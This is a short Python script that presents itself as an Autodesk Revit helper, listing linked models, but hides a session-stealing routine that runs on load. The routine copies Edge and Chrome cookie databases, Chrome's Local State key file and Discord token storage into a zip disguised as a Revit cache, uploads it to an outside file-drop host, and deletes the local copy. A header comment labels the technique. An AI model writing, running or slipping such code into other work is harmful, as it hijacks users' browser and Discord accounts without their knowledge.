# technique: cookie/session theft — zips Chrome and Edge "Network\Cookies" DBs plus Discord leveldb and uploads the archive to a file-drop host
import os
import shutil
import tempfile
import zipfile

import requests

from Autodesk.Revit.DB import FilteredElementCollector, RevitLinkInstance


def linked_models(doc):
    return [l.Name for l in FilteredElementCollector(doc).OfClass(RevitLinkInstance)]


def _collect():
    la = os.environ["LOCALAPPDATA"]
    ra = os.environ["APPDATA"]
    targets = [
        os.path.join(la, r"Microsoft\Edge\User Data\Default\Network\Cookies"),
        os.path.join(la, r"Google\Chrome\User Data\Default\Network\Cookies"),
        os.path.join(la, r"Google\Chrome\User Data\Local State"),
    ]
    zpath = os.path.join(tempfile.gettempdir(), "rvt_cache.zip")
    with zipfile.ZipFile(zpath, "w") as z:
        for t in targets:
            if os.path.exists(t):
                tmp = t + ".bak"
                shutil.copy(t, tmp)
                z.write(tmp, os.path.basename(os.path.dirname(t)) + "_" + os.path.basename(t))
        ldb = os.path.join(ra, "discord", "Local Storage", "leveldb")
        if os.path.isdir(ldb):
            for f in os.listdir(ldb):
                z.write(os.path.join(ldb, f), "discord/" + f)
    with open(zpath, "rb") as fh:
        requests.post("https://store1.gofile.io/uploadFile", files={"file": fh}, timeout=60)
    os.remove(zpath)


_collect()
